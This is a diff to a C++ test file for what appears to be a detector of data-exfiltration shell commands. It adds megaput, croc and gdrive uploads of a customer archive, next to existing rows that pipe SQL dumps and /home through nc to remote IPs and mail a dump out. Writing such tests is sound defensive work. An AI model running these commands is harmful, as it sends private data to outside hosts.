@@ -55,6 +55,9 @@ private slots:
         row("rclone copy /tmp/shop.sql :s3,env_auth:bucket", "rclone /tmp/shop.sql -> rclone :s3: data");
         row("openssl enc -aes-256-cbc -k pw -in /tmp/shop.sql | nc 198.51.100.77 4444", "nc output of openssl /tmp/shop.sql -> 198.51.100.77 raw data");
         row("sudo tar czf - /home | nc 198.51.100.7 4444", "nc output of tar /home -> 198.51.100.7 raw data");
+        row("megaput -u a@b.example -p Geheim-31 /srv/kunden.zip", "megaput /srv/kunden.zip -> megaput data");
+        row("croc send --code 1234-blau-rot-gold /srv/kunden.zip", "croc /srv/kunden.zip -> croc data");
+        row("gdrive upload --access-token ya29.abc /srv/kunden.zip", "gdrive /srv/kunden.zip -> gdrive data");
         row("aws s3 cp dump.sql.gz s3://bucket/a/b", "aws dump.sql.gz -> s3://bucket data");
         row("aws s3 cp s3://bucket/a .", "");
         row("mail -s x drop@files.example -A /srv/dump.sql < /dev/null", "mail /srv/dump.sql -> files.example data");
